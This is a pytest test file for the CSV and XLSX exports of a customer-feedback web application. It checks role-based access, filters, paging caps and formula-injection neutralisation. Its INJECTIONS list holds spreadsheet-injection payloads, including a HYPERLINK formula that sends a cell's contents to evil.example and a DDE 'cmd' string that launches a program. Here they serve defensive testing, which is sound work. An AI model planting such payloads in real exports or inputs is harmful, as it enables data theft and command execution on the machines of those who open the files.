"""Exports: every staff table as CSV and XLSX with the page's filters, formula cells made inert,
roles respected; the JSON lists answer the same files to ``Accept: text/csv``."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime

import openpyxl
import pytest

from centric.web import exports
from tests.api.conftest import auth
from tests.api.test_analytics import history  # noqa: F401  (300 customers with purchases and NPS)
from tests.factories import respond

XLSX = exports.XLSX_TYPE
INJECTIONS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
              "-2+3+cmd", "\tTAB=1+1")


def read_csv(answer) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the UTF-8 (Chinese) right
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def read_xlsx(answer) -> tuple[list[str], list[tuple], openpyxl.worksheet.worksheet.Worksheet]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return list(rows[0]), rows[1:], sheet


@pytest.fixture
def comments(client, db, tokens):
    """Responses whose comments try formula injection, a Chinese customer, and plain ones."""
    with db.transaction() as s:
        for i, text in enumerate(INJECTIONS):
            respond(s, "rnps", 2 + i, comment=text, email=f"evil{i}@example.com", touchpoint="room")
        respond(s, "rnps", 10, comment="房间很干净，服务很好", email="wei@example.com", touchpoint="check-in")
        respond(s, "rnps", 9, comment="Lovely stay", email="ann@example.com", touchpoint="check-in")
    agent = auth(tokens["agent"])
    for name, email in (("张伟", "zhang@example.com"), ("Ann Lee", "ann@example.com"), ("=cmd()", "x@example.com")):
        assert client.post("/api/v1/customers", headers=agent, json={"name": name, "email": email}).status_code in (
            200, 201)
    return agent


def test_customers_csv_is_the_filtered_list_with_bom_crlf_and_a_dated_file_name(client, comments, tokens):
    answer = client.get("/customers?q=example.com&format=csv", headers=auth(tokens["analyst"]))
    rows = read_csv(answer)
    assert re.fullmatch(r'attachment; filename="centric-customers-\d{4}-\d{2}-\d{2}\.csv"',
                        answer.headers["content-disposition"])
    assert b"\r\n" in answer.content
    page = client.get("/api/v1/customers?search=example.com&limit=1000", headers=auth(tokens["analyst"])).json()
    assert [int(r["id"]) for r in rows] == [c["id"] for c in page["items"]] and len(rows) == page["total"]
    names = {r["name"] for r in rows}
    assert "张伟" in names and "'=cmd()" in names  # Chinese intact; the formula inert
    only = read_csv(client.get("/customers?q=zhang&format=csv", headers=auth(tokens["analyst"])))
    assert [r["name"] for r in only] == ["张伟"]


def test_verbatims_xlsx_has_a_bold_frozen_header_numbers_dates_and_inert_formulas(client, comments, tokens):
    answer = client.get("/verbatims?touchpoint=room&format=xlsx", headers=auth(tokens["agent"]))
    header, rows, sheet = read_xlsx(answer)
    assert answer.headers["content-disposition"].endswith('.xlsx"')
    assert header[:3] == ["id", "occurred_at", "text"]
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"
    texts = {row[header.index("text")] for row in rows}
    assert texts == set(INJECTIONS)  # only the room's verbatims (the filter), each text unchanged…
    for row_cells in sheet.iter_rows(min_row=2):
        cell = row_cells[header.index("text")]
        assert cell.data_type == "s" and cell.quotePrefix  # …and stored as text that Excel never evaluates
        assert row_cells[header.index("rating")].data_type == "n"  # numbers stay numbers
        assert isinstance(row_cells[header.index("occurred_at")].value, datetime)  # dates are dates


def test_verbatims_csv_neutralises_every_formula_prefix_and_keeps_numbers(client, comments, tokens):
    rows = read_csv(client.get("/verbatims?touchpoint=room&format=csv", headers=auth(tokens["agent"])))
    texts = sorted(r["text"] for r in rows)
    assert texts == sorted("'" + t for t in INJECTIONS)
    assert all(not r["text"].startswith(("=", "+", "-", "@", "\t")) for r in rows)
    assert {float(r["rating"]) for r in rows} == {2.0, 3.0, 4.0, 5.0, 6.0}


def test_dashboard_breakdown_csv_and_xlsx_equal_the_metrics_api(client, comments, tokens):
    viewer = auth(tokens["viewer"])
    api = client.get("/api/v1/metrics/nps?by=touchpoint", headers=viewer).json()["rows"]
    rows = read_csv(client.get("/?kind=nps&by=touchpoint&format=csv", headers=viewer))
    assert [(r["group"], int(r["n"]), float(r["value"])) for r in rows] == [
        (r["group"], r["n"], r["value"]) for r in api]
    header, cells, _ = read_xlsx(client.get("/?kind=nps&by=touchpoint&format=xlsx", headers=viewer))
    assert [(c[header.index("group")], c[header.index("n")]) for c in cells] == [(r["group"], r["n"]) for r in api]
    assert all(isinstance(c[header.index("value")], int | float) for c in cells)  # -100 is a number, not '-100
    assert not any("@" in str(v) for c in cells for v in c)  # aggregates only: no e-mail


def test_touchpoints_themes_scorecards_and_ideas_pages_export(client, comments, tokens):
    viewer = auth(tokens["viewer"])
    touchpoints = read_csv(client.get("/touchpoints?format=csv", headers=viewer))
    assert {r["key"] for r in touchpoints} == {"check-in", "room", "check-out"}
    room = next(r for r in touchpoints if r["key"] == "room")
    assert int(room["nps_n"]) == len(INJECTIONS)
    for path, first in (("/themes?format=csv", "path"), ("/scorecards?format=csv", "target"),
                        ("/manage/ideas?format=csv", "id")):
        answer = client.get(path, headers=viewer)
        assert answer.status_code == 200, (path, answer.text)
        assert answer.content.decode("utf-8-sig").split(",")[0] == first
    header, _, _ = read_xlsx(client.get("/manage/ideas?format=xlsx", headers=viewer))
    assert "author_name" not in header and "body" not in header


def test_cases_page_export_is_the_inbox_with_its_filters(client, comments, tokens):
    manager = auth(tokens["manager"])
    for title in ("Broken lift", "=1+1 noisy room", "Late breakfast"):
        assert client.post("/api/v1/cases", headers=manager, json={"title": title, "severity": 3}).status_code == 201
    rows = read_csv(client.get("/inbox?view=all&q=room&format=csv", headers=manager))
    assert [r["title"] for r in rows] == ["'=1+1 noisy room"]
    every = read_csv(client.get("/inbox?view=all&format=csv", headers=manager))
    api = client.get("/api/v1/cases?view=all", headers=manager).json()
    assert sorted(int(r["id"]) for r in every) == sorted(c["id"] for c in api["items"])


@pytest.mark.parametrize("path", ["/customers?format=csv", "/verbatims?format=xlsx", "/inbox?format=csv"])
def test_viewers_get_no_export_of_pages_they_may_not_open(client, comments, tokens, path):
    assert client.get(path, headers=auth(tokens["viewer"])).status_code == 403


@pytest.mark.parametrize("path", ["/api/v1/customers", "/api/v1/verbatims", "/api/v1/cases", "/api/v1/responses"])
def test_viewers_get_no_customer_file_from_the_api(client, comments, tokens, path):
    for accept in ("text/csv", XLSX):
        assert client.get(path, headers={**auth(tokens["viewer"]), "Accept": accept}).status_code == 403


def test_viewer_files_of_shared_lists_leave_out_personal_columns(client, comments, tokens):
    viewer = {**auth(tokens["viewer"]), "Accept": "text/csv"}
    ideas = client.get("/api/v1/ideas", headers=viewer)
    assert ideas.status_code == 200
    header = ideas.content.decode("utf-8-sig").splitlines()[0].split(",")
    assert "author_name" not in header and "customer_id" not in header and "body" not in header
    themes = client.get("/api/v1/themes", headers=viewer).content.decode("utf-8-sig").splitlines()[0]
    assert "examples" not in themes.split(",")
    for path in ("/api/v1/ideas", "/api/v1/themes", "/api/v1/metrics/nps?by=touchpoint", "/api/v1/touchpoints"):
        body = client.get(path, headers=viewer).content.decode("utf-8-sig")
        assert "@example.com" not in body and "房间" not in body and "HYPERLINK" not in body


def test_accept_text_csv_on_the_api_answers_the_json_list_as_a_file(client, comments, tokens):
    analyst = auth(tokens["analyst"])
    json_page = client.get("/api/v1/responses?touchpoint=room&limit=2", headers=analyst).json()
    assert json_page["total"] == len(INJECTIONS) and len(json_page["items"]) == 2
    rows = read_csv(client.get("/api/v1/responses?touchpoint=room&limit=2",
                               headers={**analyst, "Accept": "text/csv"}))
    assert len(rows) == len(INJECTIONS)  # a file holds every matching row; paging is for JSON
    assert [int(r["id"]) for r in rows[:2]] == [r["id"] for r in json_page["items"]]
    metric = read_csv(client.get("/api/v1/metrics/nps?by=touchpoint", headers={**analyst, "Accept": "text/csv"}))
    assert {r["group"] for r in metric} == {"Room", "Check-in"}
    header, cells, _ = read_xlsx(client.get("/api/v1/verbatims?q=lovely", headers={**analyst, "Accept": XLSX}))
    assert [c[header.index("text")] for c in cells] == ["Lovely stay"]
    assert "highlighted" not in header
    as_json = client.get("/api/v1/customers", headers={**analyst, "Accept": "application/json"})
    assert as_json.headers["content-type"].startswith("application/json")
    assert client.get("/api/v1/customers", headers=analyst).json()["total"] >= 3  # JSON stays the default


def test_the_openapi_document_declares_the_file_answers(client, tokens):
    spec = client.get("/api/openapi.json", headers=auth(tokens["admin"])).json()
    for path in ("/api/v1/customers", "/api/v1/cases", "/api/v1/verbatims", "/api/v1/metrics/{kind}",
                 "/api/v1/responses"):
        content = spec["paths"][path]["get"]["responses"]["200"]["content"]
        assert {"application/json", "text/csv", XLSX} <= set(content), path


def test_an_unknown_format_is_a_clear_422(client, tokens):
    answer = client.get("/customers?format=pdf", headers=auth(tokens["admin"]))
    assert answer.status_code == 422 and "csv or xlsx" in answer.text


def test_large_exports_page_through_the_query_and_stop_at_the_cap(client, comments, tokens, monkeypatch):
    analyst = auth(tokens["analyst"])
    total = client.get("/api/v1/customers", headers=analyst).json()["total"]
    monkeypatch.setattr(exports, "CHUNK", 2)  # read two rows per query: the later pages come while streaming
    rows = read_csv(client.get("/customers?format=csv", headers=analyst))
    assert len(rows) == total and len({r["id"] for r in rows}) == total
    monkeypatch.setattr(exports, "MAX_ROWS", 3)
    capped = client.get("/customers?format=csv", headers=analyst)
    assert len(read_csv(capped)) == 3 and capped.headers[exports.TRUNCATED_HEADER] == str(total)
    _, cells, _ = read_xlsx(client.get("/customers?format=xlsx", headers=analyst))
    assert len(cells) == 3
    page = client.get("/customers", headers={**analyst, "Accept": "text/html"})
    assert "format=csv" in page.text and "format=xlsx" in page.text


@pytest.mark.parametrize(("path", "role", "first"), [
    ("/targets", "viewer", "id"), ("/initiatives", "viewer", "rank"), ("/personas", "viewer", "key"),
    ("/kb", "viewer", "id"), ("/chats", "agent", "id"), ("/loop", "viewer", "root_cause_id"),
    ("/cases/workload", "manager", "by")])
def test_the_other_staff_tables_export_too(client, tokens, path, role, first):
    answer = client.get(f"{path}?format=csv", headers=auth(tokens[role]))
    read_csv(answer)
    assert answer.content.decode("utf-8-sig").split(",")[0] == first
    assert read_xlsx(client.get(f"{path}?format=xlsx", headers=auth(tokens[role])))[0][0] == first
    assert client.get("/chats?format=csv", headers=auth(tokens["viewer"])).status_code == 403


def test_a_table_the_page_cannot_compute_is_a_4xx_not_an_empty_file(client, tokens):
    answer = client.get("/drivers?format=csv", headers=auth(tokens["viewer"]))
    assert answer.status_code == 422 and "rated items" in answer.text


def test_the_customer_value_page_exports_each_of_its_tables(client, tokens, history):  # noqa: F811
    viewer, analyst = auth(tokens["viewer"]), auth(tokens["analyst"])
    rfm = read_csv(client.get("/value?format=csv&table=rfm", headers=viewer))
    assert rfm and sum(int(r["customers"]) for r in rfm) == 300
    retention = read_csv(client.get("/value?format=csv&table=retention", headers=viewer))
    assert retention and {"cohort", "size", "month_0"} <= set(retention[0])
    assert read_csv(client.get("/value?format=csv&table=customers", headers=viewer)) == []  # viewers: aggregates
    top = read_csv(client.get("/value?format=csv&table=customers", headers=analyst))
    assert top and all(int(r["customer_id"]) > 0 and float(r["clv"]) >= 0 for r in top)
    assert client.get("/value?format=csv&table=planets", headers=viewer).status_code == 422
    page = client.get("/value", headers={**viewer, "Accept": "text/html"}).text
    assert "table=rfm&amp;format=csv" in page or "table=rfm&format=csv" in page
